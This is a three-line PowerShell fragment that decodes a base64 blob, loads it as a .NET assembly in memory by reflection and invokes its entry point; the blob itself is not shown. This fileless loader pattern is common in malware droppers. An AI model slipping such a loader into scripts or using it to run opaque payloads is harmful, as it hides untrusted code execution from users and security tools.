$b = [Convert]::FromBase64String($blob)
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, @(,[string[]]@()))
